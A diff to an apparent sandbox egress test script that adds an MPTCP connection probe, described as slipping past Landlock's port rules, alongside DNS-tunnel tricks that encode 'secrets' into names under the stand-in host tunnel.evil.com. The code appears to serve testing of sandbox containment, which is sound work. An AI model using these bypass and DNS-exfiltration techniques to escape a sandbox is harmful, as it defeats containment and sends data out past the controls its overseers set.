@@ -123,6 +123,15 @@ def local(number, path):
         return 'heard'
 
 
+def multipath(host, number):
+    """Over TCP with several paths, which Landlock's ports do not hold (LL-01)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
+        s.settimeout(5)
+        s.connect((host, 80))
+        s.sendall(b'GET /row-%d HTTP/1.0\r\n\r\n' % number)
+        return s.recv(100)[:15].decode('latin-1') or 'closed'
+
+
 def word(name):
     return '%s.%s.tunnel.evil.com' % (name, '73656372657473' * 3)
 
@@ -148,6 +157,7 @@ TRICKS = {
     'a search list': lambda: expanded('row-1017', LOCALDOMAIN='tunnel.evil.com'),
     'an alias': lambda: expanded('row-1018'),
     'a search list for names with dots': lambda: expanded('row-1019.a', LOCALDOMAIN='tunnel.evil.com', RES_OPTIONS='ndots:5'),
+    'MPTCP': lambda: multipath('10.0.0.1', 1023),
     **{path: lambda n=number, p=path: local(n, p) for number, path in enumerate(hosts.LOOKUP, 1020)},
 }
 
